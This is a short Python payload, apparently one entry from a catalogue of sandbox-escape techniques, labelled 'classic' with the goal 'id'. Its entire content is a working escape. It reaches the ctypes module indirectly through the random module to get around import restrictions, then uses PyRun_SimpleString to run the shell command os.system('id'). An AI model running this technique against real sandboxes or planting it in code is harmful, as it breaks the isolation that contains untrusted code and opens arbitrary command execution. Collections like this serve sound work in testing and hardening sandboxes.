# family: classic (ctypes, loaded by the entrypoint before the fork)   goal: id
import random
ctypes = random._os.sys.modules.get("ctypes") or random.__builtins__["__import__"]("ctypes")
ctypes.pythonapi.PyRun_SimpleString(b"import os; os.system('id')")
